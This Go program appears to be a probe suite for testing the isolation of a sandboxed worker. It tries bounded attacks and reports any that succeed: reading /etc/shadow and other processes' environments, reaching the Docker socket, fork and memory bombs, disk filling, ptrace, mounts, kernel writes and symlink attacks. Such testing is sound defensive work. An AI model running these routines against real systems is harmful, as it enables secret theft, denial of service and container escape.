package main

import (
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

const (
	mib = 1 << 20
	// Bounds of attacks that nothing contains.
	mostMemoryMiB = 1024
	mostDiskMiB   = 1024
	mostProcesses = 9000
	mostLogMiB    = 64
)

var attacks = map[string]func(){
	"read-worker-environment": readEnvironments,
	"read-env-file":           func() { readFile(os.Getenv("HINT_ENV_FILE")) },
	"read-worker-root":        readOtherRoots,
	"read-other-trial":        func() { readFile(os.Getenv("HINT_TRIAL_FILE")) },
	"read-shadow":             func() { readFile("/etc/shadow") },
	"search-files":            searchFiles,
	"use-database-socket":     func() { dial("unix", os.Getenv("HINT_SOCKET")) },
	"use-docker-socket":       func() { dial("unix", "/var/run/docker.sock") },
	"call-api-loopback":       func() { callAPI("127.0.0.1") },
	"call-api-gateway":        func() { callAPI(strings.Fields(os.Getenv("HINT_ADDRESSES"))...) },
	"scan-network":            scanNetwork,
	"fork-bomb":               forkBomb,
	"memory-bomb":             memoryBomb,
	"fill-tmp":                func() { fillDisk(os.TempDir()) },
	"fill-build-folder":       func() { fillDisk(".") },
	"fill-root":               func() { fillDisk("/") },
	"flood-log":               floodLog,
	"leave-processes":         leaveProcesses,
	"signal-others":           signalOthers,
	"write-cgroups":           writeCgroups,
	"ptrace":                  ptrace,
	"mount":                   mount,
	"write-kernel":            writeKernel,
	"link-own-folder":         linkOwnFolder,
	"make-namespaces":         makeNamespaces,
}

func readFile(path string) {
	content, err := os.ReadFile(path)
	if err != nil {
		fmt.Println("refused:", err)
		return
	}
	gain("the file %s: %s", path, content)
}

func readEnvironments() {
	folders, _ := filepath.Glob("/proc/[0-9]*")
	for _, folder := range folders {
		if filepath.Base(folder) == strconv.Itoa(os.Getpid()) {
			continue
		}
		if content, err := os.ReadFile(folder + "/environ"); err == nil {
			fmt.Println("environment of", folder, strings.ReplaceAll(string(content), "\x00", " "))
		}
	}
}

func readOtherRoots() {
	folders, _ := filepath.Glob("/proc/[0-9]*")
	for _, folder := range folders {
		readFile(folder + "/root" + os.Getenv("HINT_ENV_FILE"))
	}
}

// searchFiles prints small text files outside of the system's folders.
func searchFiles() {
	end := time.Now().Add(5 * time.Second)
	filepath.WalkDir("/", func(path string, entry fs.DirEntry, err error) error {
		if time.Now().After(end) {
			return fs.SkipAll
		}
		if err != nil || path == "/proc" || path == "/sys" || path == "/usr" || path == "/dev" {
			return fs.SkipDir
		}
		if info, err := entry.Info(); err == nil && info.Mode().IsRegular() && info.Size() < 4096 {
			content, _ := os.ReadFile(path)
			fmt.Printf("%s: %q\n", path, content)
		}
		return nil
	})
}

func dial(network, address string) {
	connection, err := net.DialTimeout(network, address, time.Second)
	if err != nil {
		fmt.Println("refused:", err)
		return
	}
	connection.Close()
	gain("a connection to %s", address)
}

func callAPI(addresses ...string) {
	client := http.Client{Timeout: time.Second}
	for _, address := range addresses {
		url := "http://" + net.JoinHostPort(address, os.Getenv("HINT_PORT")) + "/api/v1/runs"
		response, err := client.Post(url, "application/json", strings.NewReader("{}"))
		if err != nil {
			fmt.Println("refused:", err)
			continue
		}
		body, _ := io.ReadAll(response.Body)
		response.Body.Close()
		fmt.Printf("answer of %s: %s\n", address, body)
	}
}

func scanNetwork() {
	interfaces, _ := net.Interfaces()
	for _, each := range interfaces {
		if each.Flags&net.FlagLoopback == 0 {
			gain("the network interface %s", each.Name)
		}
	}
	for _, address := range strings.Fields(os.Getenv("HINT_ADDRESSES")) {
		dial("tcp", net.JoinHostPort(address, os.Getenv("HINT_PORT")))
	}
}

func forkBomb() {
	end := time.Now().Add(20 * time.Second)
	attributes := &syscall.ProcAttr{Env: append(os.Environ(), "GOMAXPROCS=1"), Files: []uintptr{0, 1, 2}}
	living := 0
	for started := 1; living < mostProcesses && time.Now().Before(end); started++ {
		if _, err := syscall.ForkExec("/proc/self/exe", []string{"service", "wait"}, attributes); err != nil {
			break
		}
		living++
		for reaped := 1; reaped > 0; {
			reaped, _ = syscall.Wait4(-1, nil, syscall.WNOHANG, nil)
			living -= min(max(reaped, 0), 1)
		}
		if started%50 == 0 {
			amount("processes", living)
		}
	}
	amount("processes", living)
}

func memoryBomb() {
	kept := [][]byte{}
	for used := 32; used <= mostMemoryMiB; used += 32 {
		block := make([]byte, 32*mib)
		for index := 0; index < len(block); index += 4096 {
			block[index] = 1
		}
		kept = append(kept, block)
		amount("mib", used)
	}
	fmt.Println(len(kept))
}

func fillDisk(folder string) {
	path := filepath.Join(folder, "filled")
	file, err := os.Create(path)
	if err != nil {
		fmt.Println("refused:", err)
		amount("mib", 0)
		return
	}
	block, written := make([]byte, mib), 0
	for ; written < mostDiskMiB; written++ {
		if written%16 == 0 {
			amount("mib", written)
		}
		if _, err = file.Write(block); err != nil {
			break
		}
	}
	file.Close()
	os.Remove(path)
	amount("mib", written)
}

func floodLog() {
	line := []byte(strings.Repeat("x", 1023) + "\n")
	for range mostLogMiB * 1024 {
		os.Stdout.Write(line)
	}
}

// leaveProcesses starts a process that has no parent and is in no session of this one.
func leaveProcesses() {
	child := exec.Command("/proc/self/exe", "wait", os.Getenv("HINT_MARK"))
	child.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	child.Env = []string{}
	if err := child.Start(); err != nil {
		fmt.Println("refused:", err)
	}
}

func otherPID() int {
	pid, _ := strconv.Atoi(os.Getenv("HINT_PID"))
	return pid
}

func signalOthers() {
	if err := syscall.Kill(otherPID(), syscall.SIGTERM); err != nil {
		fmt.Println("refused:", err)
		return
	}
	gain("a signal to process %d", otherPID())
}

func ptrace() {
	if err := syscall.PtraceAttach(otherPID()); err != nil {
		fmt.Println("refused:", err)
		return
	}
	gain("the memory of process %d", otherPID())
	syscall.PtraceDetach(otherPID())
}

func writeCgroups() {
	syscall.Mount("cgroup", os.TempDir(), "cgroup", 0, "memory")
	for _, top := range []string{"/sys/fs/cgroup", os.TempDir()} {
		filepath.WalkDir(top, func(path string, entry fs.DirEntry, err error) error {
			if err != nil {
				return fs.SkipDir
			}
			switch entry.Name() {
			case "cgroup.procs", "memory.limit_in_bytes", "memory.max":
				if file, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
					file.Close()
					gain("the control group %s", path)
				}
			}
			return nil
		})
	}
}

func mount() {
	if err := syscall.Mount("tmpfs", os.TempDir(), "tmpfs", 0, ""); err == nil {
		gain("a mount")
	}
	if err := syscall.Mknod(os.TempDir()+"/disk", syscall.S_IFBLK|0o600, 8<<8); err == nil {
		gain("a device")
	}
	if err := syscall.Chroot("/proc/1/root"); err == nil {
		gain("another root")
	}
}

func writeKernel() {
	for _, path := range []string{"/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/sys/vm/swappiness"} {
		if file, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
			file.Close()
			gain("the kernel's %s", path)
		}
	}
	if err := syscall.Sethostname([]byte("hostile")); err == nil {
		gain("the name of the host")
	}
}

// linkOwnFolder leaves links and nested folders, and changes its own log through its output.
func linkOwnFolder() {
	victims := map[string]string{
		"file-link":   os.Getenv("HINT_VICTIM_FILE"),
		"folder-link": os.Getenv("HINT_VICTIM_FOLDER"),
		"service.log": os.Getenv("HINT_ENV_FILE"),
	}
	for name, victim := range victims {
		if err := os.Symlink(victim, name); err != nil {
			fmt.Println("refused:", err)
		}
		if content, err := os.ReadFile(name); err == nil {
			gain("the file %s: %s", victim, content)
		}
		if err := os.WriteFile(name, []byte("overwritten"), 0o600); err == nil {
			gain("the file %s", victim)
		}
	}
	for depth := 0; depth < 1500; depth++ {
		if os.Mkdir("d", 0o700) != nil || os.Chdir("d") != nil {
			break
		}
	}
	if log, err := os.OpenFile("/proc/self/fd/1", os.O_RDWR, 0); err == nil {
		log.Truncate(1 << 40)
		log.Chmod(0)
		log.Truncate(0)
		log.Close()
	}
}

// makeNamespaces prints what the kernel allows. Numbers of calls are those of x86_64 and aarch64.
func makeNamespaces() {
	for name, flag := range map[string]uintptr{
		"user": syscall.CLONE_NEWUSER, "mount": syscall.CLONE_NEWNS, "network": syscall.CLONE_NEWNET,
	} {
		child := exec.Command("/proc/self/exe", "end")
		child.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flag}
		if child.Run() == nil {
			gain("a %s namespace by clone", name)
		}
	}
	if _, _, err := syscall.RawSyscall(syscall.SYS_UNSHARE, syscall.CLONE_NEWUSER, 0, 0); err == 0 {
		gain("a user namespace by unshare")
	}
	// Calls without arguments fail in another way where they are allowed.
	const fsopen, openTree, clone3 = 430, 428, 435
	for name, number := range map[string]uintptr{
		"fsopen": fsopen, "open_tree": openTree, "clone3": clone3, "keyctl": syscall.SYS_KEYCTL,
	} {
		_, _, err := syscall.RawSyscall(number, 0, 0, 0)
		if err != syscall.EPERM && err != syscall.ENOSYS {
			gain("the call %s: %v", name, err)
		}
	}
}
